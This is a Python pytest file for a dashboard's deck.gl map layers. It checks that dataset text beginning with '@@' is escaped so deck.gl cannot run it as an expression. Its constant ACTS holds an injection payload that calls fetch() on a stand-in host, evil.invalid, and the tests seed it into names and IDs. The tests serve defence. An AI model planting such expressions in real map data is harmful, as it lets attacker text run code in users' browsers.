import json
from datetime import date

import pytest

from dashboard.findings.map import money
from dashboard.findings.map.ground import score_ground
from dashboard.findings.map.measures import CLASS
from dashboard.screen.maps.escape import deck, deck_row, typed
from dashboard.screen.maps.ground import deck_of
from dashboard.text.catalogue import text_in
from tests.domain.by_hand import dataset, place, rt

ID = text_in("id")
ACTS = "@@=fetch('http://evil.invalid')"
SQUARE = [[[104.45, 0.94], [104.452, 0.94], [104.452, 0.942], [104.45, 0.942], [104.45, 0.94]]]


@pytest.mark.parametrize("words", ["@@=1", "@@#GL.ONE", "@@", "@@type"])
def test_a_text_that_deck_gl_would_run_no_longer_begins_so_and_comes_back_as_typed(words: str):
    assert not deck(words).startswith("@@")
    assert typed(deck(words)) == words


@pytest.mark.parametrize("words", ["RT 001", "a@@=b", "@ =", ""])
def test_other_texts_are_left_as_they_are(words: str):
    assert deck(words) == words


def test_the_texts_of_properties_are_made_safe_too():
    safe = deck_row({"properties": {"tip": "@@=1"}, "label": "@@=2", "position": [1, 2]})
    assert not json.dumps(safe).count('"@@')
    assert safe["position"] == [1, 2]


def test_no_text_of_a_dataset_reaches_a_map_as_an_expression():
    here = {"lat": "0.94", "lon": "104.45"}
    rows = [
        place(f"{ACTS}kw", "kawasan", **here) | {"name": ACTS},
        rt(f"{ACTS}rt", kawasan_id=f"{ACTS}kw") | {"name": f"{ACTS} / {ACTS}"},
        rt(f"{ACTS}point", kawasan_id=f"{ACTS}kw", **here) | {"name": ACTS},
    ]
    shape = {
        "location_id": f"{ACTS}rt", "geometry_kind": ACTS, "note": ACTS, "type": "Polygon",
        "coordinates": SQUARE,
    }  # fmt: skip
    works = [
        {
            "activity_id": ACTS,
            "location_id": f"{ACTS}rt",
            "kind": ACTS,
            "amount_rupiah": 5,
            "amount_kind": "budget",
        }
    ]
    data = dataset(locations=rows, activities=works, boundaries=[shape])
    for drawn in (
        score_ground(data, f"{ACTS}kw", None, CLASS, date(2026, 11, 28), ID),
        money.money_ground(data, f"{ACTS}kw", None, "budget", ID),
    ):
        assert drawn is not None
        for layer in json.loads(deck_of(drawn, "light").to_json())["layers"]:
            assert '"@@' not in json.dumps(layer["data"])
